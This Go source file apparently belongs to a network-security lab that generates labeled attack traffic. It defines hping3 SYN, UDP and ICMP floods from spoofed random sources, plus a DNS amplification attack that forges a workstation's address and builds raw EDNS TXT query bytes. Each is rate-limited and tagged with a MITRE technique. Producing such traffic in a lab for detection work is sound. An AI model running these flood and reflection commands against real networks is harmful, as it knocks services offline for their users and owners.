package lab

import (
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"time"
)

// Denial of service: hping3 floods with random sources, and a DNS
// reflection with the victim's address forged. Each is bounded by a packet
// count and an interval (hping3 -c and -i), never --flood.

// floodRate is the floods' packets per second.
const floodRate = 1000

func init() {
	register(
		floodScenario("syn-flood", "flood.syn", "T1499.001",
			"hping3 SYN flood at the server's web port from random spoofed sources (1000 packets/s).",
			"-S", "-p", "80"),
		floodScenario("udp-flood", "flood.udp", "T1498.001",
			"hping3 UDP flood at a closed port of the server from random spoofed sources (1000 packets/s, 200-byte payloads); the server answers with ICMP port unreachable.",
			"--udp", "-p", "161", "-d", "200"),
		floodScenario("icmp-flood", "flood.icmp", "T1498.001",
			"hping3 ICMP echo flood at the server from random spoofed sources (1000 packets/s, 500-byte payloads).",
			"--icmp", "-d", "500"),
		&Scenario{
			Name: "dns-amplification", Difficulty: Medium,
			Description: "DNS reflection: the attacker sends EDNS TXT queries for a large record to the LAN resolver with ws1's address as source (50 queries/s); ~3.6 KB answers go to ws1.",
			Tools:       []string{"hping3"}, Classes: []string{"flood.amplification"}, MITRE: []string{"T1498.002"},
			Attacker: hostPtr(hostAtk), Victims: v4(hostWS1, hostServer), Duration: 15 * time.Second,
			Notes: "the queries carry ws1's address as source (forged: their source MAC is the attacker's); the resolver srv is the reflector",
			attack: func(a *attackRun) error {
				query, err := writeAmplificationQuery(a.w)
				if err != nil {
					return err
				}
				const rate = 50
				return a.run(hostAtk, "hping3", "--udp", "-a", hostWS1.IPv4().String(), "-s", "33000", "-k",
					"-p", "53", "-E", query, "-d", fmt.Sprint(dnsQueryLen()),
					"-i", fmt.Sprintf("u%d", 1_000_000/rate), "-c", fmt.Sprint(count(rate, a.duration)),
					hostServer.IPv4().String())
			},
		},
	)
}

// floodScenario is an hping3 flood of the server with random sources.
func floodScenario(name, class, mitre, desc string, mode ...string) *Scenario {
	return &Scenario{
		Name: name, Difficulty: Easy, Description: desc,
		Tools: []string{"hping3"}, Classes: []string{class}, MITRE: []string{mitre},
		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 10 * time.Second,
		Notes: "source addresses are random (--rand-source): the attacker is known by its MAC",
		attack: func(a *attackRun) error {
			argv := append([]string{"hping3"}, mode...)
			argv = append(argv, "--rand-source", "-i", fmt.Sprintf("u%d", 1_000_000/floodRate),
				"-c", fmt.Sprint(count(floodRate, a.duration)), hostServer.IPv4().String())
			return a.run(hostAtk, argv...)
		},
	}
}

// count is the number of packets rate per second for d.
func count(rate int, d time.Duration) int {
	return max(1, int(float64(rate)*d.Seconds()))
}

// dnsQuery is a TXT query for the large record with an EDNS0 OPT record
// offering 4096-byte answers: the reflection's request.
func dnsQuery() []byte {
	q := []byte{0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 1} // id, RD, 1 question, 1 additional
	for _, label := range strings.Split(ampName, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0, 0, 16, 0, 1) // root, TXT, IN
	opt := []byte{0, 0, 41, 0, 0, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint16(opt[3:], 4096)
	return append(q, opt...)
}

func dnsQueryLen() int { return len(dnsQuery()) }

func writeAmplificationQuery(w workDir) (string, error) {
	p := w.path("dns-txt-query.bin")
	if err := os.WriteFile(p, dnsQuery(), 0o644); err != nil {
		return "", fmt.Errorf("lab: amplification query: %w", err)
	}
	return p, nil
}
